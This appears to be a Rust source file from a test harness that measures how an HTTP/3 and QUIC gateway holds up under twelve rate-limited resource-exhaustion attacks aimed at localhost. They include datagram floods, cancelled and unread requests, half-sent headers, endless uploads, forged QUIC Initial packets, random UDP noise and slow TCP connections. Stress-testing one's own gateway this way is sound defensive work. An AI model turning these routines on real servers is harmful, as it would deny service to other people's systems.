//! The attacks. Each keeps to a rate, counts the bytes that it sends, and comes back when it is thrown out.

use std::{net::SocketAddr, time::Duration};

use bytes::Bytes;
use h3_quic::{Datagrams, Protocol, client::SendRequest};
use http::Request;
use http_body::Frame;
use http_body_util::{BodyExt, Empty, channel::Channel};
use tiderace::{Connection, Endpoint};
use tokio::{net::UdpSocket, task::JoinSet, time::Instant};

use super::Target;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    /// No attack: a download at the attackers' rate, whose cost the others are compared with.
    Download,
    EmptyDatagrams,
    PrivateDatagrams,
    CancelledRequests,
    CancelledAtBackEnd,
    UnreadAnswers,
    HalfHeads,
    Uploads,
    Handshakes,
    ForgedInitials,
    Garbage,
    SlowTcp,
}

impl Kind {
    pub(crate) const ALL: [Self; 12] = [
        Self::Download,
        Self::EmptyDatagrams,
        Self::PrivateDatagrams,
        Self::CancelledRequests,
        Self::CancelledAtBackEnd,
        Self::UnreadAnswers,
        Self::HalfHeads,
        Self::Uploads,
        Self::Handshakes,
        Self::ForgedInitials,
        Self::Garbage,
        Self::SlowTcp,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Download => "download",
            Self::EmptyDatagrams => "empty-datagrams",
            Self::PrivateDatagrams => "private-datagrams",
            Self::CancelledRequests => "cancelled-requests",
            Self::CancelledAtBackEnd => "cancelled-at-back-end",
            Self::UnreadAnswers => "unread-answers",
            Self::HalfHeads => "half-heads",
            Self::Uploads => "uploads",
            Self::Handshakes => "handshakes",
            Self::ForgedInitials => "forged-initials",
            Self::Garbage => "garbage",
            Self::SlowTcp => "slow-tcp",
        }
    }

    /// Attacks from a thread of its own that gives way to the gateway and its clients, as another machine would.
    pub(crate) async fn run_afar(self, target: Target, lasting: Duration, rate: u64) -> u64 {
        let attacking = tokio::task::spawn_blocking(move || {
            give_way();
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
            let sent = runtime.block_on(async {
                let sent = self.run(&target, Instant::now() + lasting, rate).await;
                // The gateway hears that the connections have ended.
                tokio::time::sleep(Duration::from_millis(500)).await;
                sent
            });
            runtime.shutdown_background();
            sent
        });
        attacking.await.expect("the attack goes through")
    }

    /// Attacks until `until` with at most `rate` bits per second; gives the bytes sent (for a download, those that came).
    async fn run(self, target: &Target, until: Instant, rate: u64) -> u64 {
        let mut pace = Pace { begun: Instant::now(), until, rate, earlier: 0, now: 0 };
        while !pace.is_over() {
            // Whatever ends it, the next one comes.
            let round = async {
                match self {
                    Self::Download => download(target, &mut pace).await,
                    Self::EmptyDatagrams => empty_datagrams(target, &mut pace).await,
                    Self::PrivateDatagrams => private_datagrams(target, &mut pace).await,
                    Self::CancelledRequests => cancelled(target, &mut pace, "large").await,
                    Self::CancelledAtBackEnd => cancelled(target, &mut pace, "back/").await,
                    Self::UnreadAnswers => unread_answers(target, &mut pace).await,
                    Self::HalfHeads => half_heads(target, &mut pace).await,
                    Self::Uploads => uploads(target, &mut pace).await,
                    Self::Handshakes => handshakes(target, &mut pace).await,
                    Self::ForgedInitials => datagrams(target.address, &mut pace, initial).await,
                    Self::Garbage => datagrams(target.address, &mut pace, noise).await,
                    Self::SlowTcp => slow_tcp(target, &mut pace).await,
                }
            };
            let ended = tokio::time::timeout_at(until, round).await;
            if ended.is_ok_and(|ended| ended.is_err()) {
                // Refused: not a busy loop in this process.
                tokio::time::sleep(Duration::from_millis(1)).await;
            }
            pace.next_connection();
        }
        pace.sent()
    }
}

/// The calling thread runs when nobody else wants to. The thread ends with the attack, so nothing is undone.
#[expect(unsafe_code, reason = "setpriority has no safe wrapper")]
fn give_way() {
    // SAFETY: no memory is passed; 0 is the calling thread.
    unsafe { libc::setpriority(libc::PRIO_PROCESS, 0, 19) };
}

type Result<T = ()> = std::result::Result<T, Box<dyn std::error::Error + Send + Sync>>;

/// The rate limit of an attack and the bytes it has sent.
struct Pace {
    begun: Instant,
    until: Instant,
    rate: u64,
    /// Bytes of connections that have ended.
    earlier: u64,
    /// Bytes of the one at work.
    now: u64,
}

impl Pace {
    fn is_over(&self) -> bool {
        Instant::now() >= self.until
    }

    fn sent(&self) -> u64 {
        self.earlier + self.now
    }

    fn next_connection(&mut self) {
        self.earlier += std::mem::take(&mut self.now);
    }

    /// The connection at work has sent so many bytes; waits when that is more than the rate allows.
    async fn keep(&mut self, bytes: u64) {
        self.now = bytes;
        let due = Duration::from_secs_f64(self.sent() as f64 * 8.0 / self.rate as f64);
        let passed = self.begun.elapsed();
        if due > passed {
            tokio::time::sleep(due - passed).await;
        } else {
            tokio::task::yield_now().await;
        }
    }

    async fn keep_of(&mut self, connections: &[Connection]) -> Result {
        let bytes = connections.iter().filter_map(Connection::stats).map(|stats| stats.bytes_sent).sum();
        self.keep(bytes).await;
        match connections.iter().find_map(Connection::close_reason) {
            Some(reason) => Err(reason.into()),
            None => Ok(()),
        }
    }
}

async fn h3(target: &Target) -> Result<(Endpoint, Connection, SendRequest)> {
    let (endpoint, quic) = target.connect(b"h3").await?;
    let requests = h3_quic::client::begin(quic.clone()).await?;
    Ok((endpoint, quic, requests))
}

async fn download(target: &Target, pace: &mut Pace) -> Result {
    let (_endpoint, _quic, mut requests) = h3(target).await?;
    let mut read = 0;
    loop {
        let answer = requests.send(Request::get("https://localhost/large").body(Empty::new())?).await?;
        let mut body = answer.into_body();
        while let Some(frame) = body.frame().await {
            read += frame?.into_data().map_or(0, |data| data.len() as u64);
            pace.keep(read).await;
        }
    }
}

/// A tunnel through which nothing is said but empty datagrams.
async fn empty_datagrams(target: &Target, pace: &mut Pace) -> Result {
    let (_endpoint, quic, mut requests) = h3(target).await?;
    let (_say, body) = Channel::<Bytes, std::io::Error>::new(1);
    let connect = Request::connect("https://localhost/back/udp").extension(Protocol::from_static("connect-udp"));
    let answer = requests.send(connect.header("capsule-protocol", "?1").body(body)?).await?;
    let datagrams = answer.extensions().get::<Datagrams>().ok_or("the gateway takes no datagrams")?.clone();
    loop {
        for _ in 0..200 {
            datagrams.send(b"")?;
        }
        pace.keep_of(std::slice::from_ref(&quic)).await?;
    }
}

/// Datagrams of a byte for a protocol that has no use for them.
async fn private_datagrams(target: &Target, pace: &mut Pace) -> Result {
    let (_endpoint, quic) = target.connect(b"private").await?;
    loop {
        for _ in 0..200 {
            quic.send_datagram(Bytes::from_static(b"x"))?;
        }
        pace.keep_of(std::slice::from_ref(&quic)).await?;
    }
}

/// Requests that are given up as soon as they are sent.
async fn cancelled(target: &Target, pace: &mut Pace, path: &str) -> Result {
    let (_endpoint, quic, mut requests) = h3(target).await?;
    loop {
        for _ in 0..50 {
            let request = Request::get(format!("https://localhost/{path}")).body(Empty::new())?;
            let _ = tokio::time::timeout(Duration::ZERO, requests.send(request)).await;
        }
        pace.keep_of(std::slice::from_ref(&quic)).await?;
    }
}

/// As many large answers as are allowed, over ten connections, of which nothing is read.
async fn unread_answers(target: &Target, pace: &mut Pace) -> Result {
    let (mut connections, mut endpoints, mut held) = (Vec::new(), Vec::new(), JoinSet::new());
    for _ in 0..10 {
        let (endpoint, quic, mut requests) = h3(target).await?;
        requests.send(Request::get("https://localhost/small").body(Empty::<Bytes>::new())?).await?;
        for _ in 0..90 {
            let mut requests = requests.clone();
            // The first few answers fill the connection's window, and the others do not even begin.
            held.spawn(async move {
                let request = Request::get("https://localhost/large").body(Empty::<Bytes>::new());
                let answer = requests.send(request.expect("the address is right")).await;
                std::future::pending::<()>().await;
                drop(answer);
            });
        }
        connections.push(quic);
        endpoints.push(endpoint);
        pace.keep_of(&connections).await?;
    }
    loop {
        tokio::time::sleep(Duration::from_millis(100)).await;
        pace.keep_of(&connections).await?;
    }
}

/// The beginnings of requests' fields, on all streams that are allowed, over connection after connection.
async fn half_heads(target: &Target, pace: &mut Pace) -> Result {
    let mut connections = Vec::new();
    let mut held = Vec::new();
    loop {
        let (endpoint, quic) = target.connect(b"h3").await?;
        connections.push(quic.clone());
        for _ in 0..100 {
            let (mut send, recv) = quic.open_bi().await?;
            // HEADERS of 16,000 bytes, of which all but one come.
            let mut head = vec![0x01, 0x7e, 0x80];
            head.resize(3 + 15_999, b'x');
            send.write_all(&head).await?;
            held.push((send, recv));
            pace.keep_of(&connections).await?;
        }
        held.clear();
        if connections.len() >= 10 {
            pace.next_connection();
            connections.clear();
        }
        drop(endpoint);
    }
}

/// Content without end for a back end that reads none.
async fn uploads(target: &Target, pace: &mut Pace) -> Result {
    let (_endpoint, quic, mut requests) = h3(target).await?;
    let (mut bodies, mut exchanges) = (Vec::new(), JoinSet::new());
    for _ in 0..20 {
        let (say, body) = Channel::<Bytes, std::io::Error>::new(4);
        let mut requests = requests.clone();
        exchanges.spawn(async move {
            let request = Request::post("https://localhost/back/").body(body).expect("the address is right");
            let _ = requests.send(request).await;
        });
        bodies.push(say);
    }
    // Until the connection works.
    requests.send(Request::get("https://localhost/small").body(Empty::<Bytes>::new())?).await?;
    loop {
        for body in &mut bodies {
            // What does not fit has to wait for the gateway.
            let _ = body.try_send(Frame::data(Bytes::from_static(&[b'u'; 16_384])));
        }
        tokio::time::sleep(Duration::from_millis(1)).await;
        pace.keep_of(std::slice::from_ref(&quic)).await?;
    }
}

/// Connections that are closed as soon as they are there.
async fn handshakes(target: &Target, pace: &mut Pace) -> Result {
    let (_endpoint, quic) = target.connect(b"h3").await?;
    let bytes = quic.stats().map_or(0, |stats| stats.bytes_sent);
    quic.close(0, b"");
    pace.keep(bytes).await;
    Ok(())
}

/// A first packet of a client that is not there: the header is right, nothing else is.
fn initial(number: u64, payload: &mut [u8]) {
    noise(number, payload);
    payload[..6].copy_from_slice(&[0xc3, 0, 0, 0, 1, 8]);
    // Eight bytes of destination ID are left as they are; no source ID, no token, the length of the rest.
    let rest = u16::try_from(payload.len() - 18).unwrap();
    payload[14..16].copy_from_slice(&[0, 0]);
    payload[16..18].copy_from_slice(&(0x4000 | rest).to_be_bytes());
}

/// Bytes without a meaning: a short header, most of the time.
fn noise(number: u64, payload: &mut [u8]) {
    let mut state = number.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    for chunk in payload.chunks_mut(8) {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        chunk.copy_from_slice(&state.to_le_bytes()[..chunk.len()]);
    }
    payload[0] = 0x40 | (payload[0] & 0x3f);
}

/// Datagrams of 1,200 bytes without a connection.
async fn datagrams(to: SocketAddr, pace: &mut Pace, make: impl Fn(u64, &mut [u8])) -> Result {
    let socket = UdpSocket::bind("127.0.0.1:0").await?;
    socket.connect(to).await?;
    let mut payload = [0; 1_200];
    for number in 0.. {
        make(number, &mut payload);
        socket.send(&payload).await?;
        if number % 16 == 15 {
            pace.keep((number + 1) * 1_200).await;
        }
    }
    Ok(())
}

/// TCP connections that say a byte now and then.
async fn slow_tcp(target: &Target, pace: &mut Pace) -> Result {
    use tokio::io::AsyncWriteExt;
    let mut held = Vec::new();
    let mut sent = 0;
    for _ in 0..1_000 {
        let mut stream = tokio::net::TcpStream::connect(target.address).await?;
        // The beginning of a record of TLS.
        stream.write_all(&[0x16, 3, 1]).await?;
        sent += 3;
        held.push(stream);
        pace.keep(sent).await;
    }
    loop {
        tokio::time::sleep(Duration::from_millis(500)).await;
        for stream in &mut held {
            // Who was thrown out stays so until the round ends.
            sent += u64::from(stream.write_all(&[1]).await.is_ok());
        }
        pace.keep(sent).await;
    }
}
